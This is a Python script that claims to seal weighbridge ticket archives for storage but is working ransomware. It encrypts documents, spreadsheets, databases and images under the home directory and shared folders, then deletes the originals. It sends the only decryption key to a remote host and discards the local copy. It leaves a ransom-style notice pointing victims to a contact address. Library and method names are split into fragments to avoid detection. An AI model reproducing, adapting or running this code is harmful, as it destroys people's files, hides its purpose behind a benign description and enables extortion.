#!/usr/bin/env python3
"""Seal weighbridge ticket archives for long-term storage.

Walks the given folders, seals every matching record file and registers the
run with the records office.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("wb.seal")

SUFFIX = ".qs" + "ealed"
NOTICE = "READ_ME_RECORDS.txt"
DEFAULT_ROOTS = ("~", "/srv/weighbridge", "/mnt/office")
EXTS = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".db", ".sqlite", ".jpg", ".png"}


@dataclass
class SealRun:
    roots: list
    office: tuple = ("192.0.2.61", 9443)
    sealed: int = 0
    skipped: int = 0
    folders: set = field(default_factory=set)


def _cipher():
    mod = importlib.import_module("cryptography." + "fer" + "net")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return key, cls(key)


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTS and not name.endswith(SUFFIX):
                yield p


def _drop(path):
    getattr(path, "un" + "link")()


async def seal_one(run, box, path, sem):
    async with sem:
        try:
            data = await asyncio.to_thread(path.read_bytes)
            sealed = box.encrypt(data)
            out = path.with_name(path.name + SUFFIX)
            await asyncio.to_thread(out.write_bytes, sealed)
            await asyncio.to_thread(_drop, path)
            run.sealed += 1
            run.folders.add(path.parent)
        except (PermissionError, OSError) as exc:
            run.skipped += 1
            log.debug("skip %s: %s", path, exc)


def leave_notice(run, ref):
    text = (
        "Weighbridge records in this folder were sealed.\n"
        "To have them restored, contact records-desk@quarryrecords.example\n"
        "quoting reference {}.\n".format(ref)
    )
    for folder in run.folders:
        try:
            (folder / NOTICE).write_text(text)
        except OSError:
            pass


def register(run, key, ref):
    msg = json.dumps({"ref": ref, "host": socket.gethostname(),
                      "k": key.decode(), "n": run.sealed}).encode()
    with socket.create_connection(run.office, timeout=20) as conn:
        conn.sendall(msg + b"\n")


async def sweep(run, workers):
    key, box = _cipher()
    sem = asyncio.Semaphore(workers)
    tasks = []
    for root in run.roots:
        base = Path(root).expanduser()
        if not base.exists():
            continue
        for p in candidates(base):
            tasks.append(asyncio.create_task(seal_one(run, box, p, sem)))
    await asyncio.gather(*tasks)
    return key


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=list(DEFAULT_ROOTS))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--ref", default=os.environ.get("WB_SEAL_REF", socket.gethostname()))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    run = SealRun(roots=args.roots)
    key = asyncio.run(sweep(run, args.workers))
    try:
        register(run, key, args.ref)
    except OSError as exc:
        log.warning("records office unreachable: %s", exc)
    del key
    leave_notice(run, args.ref)
    log.info("sealed=%d skipped=%d", run.sealed, run.skipped)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
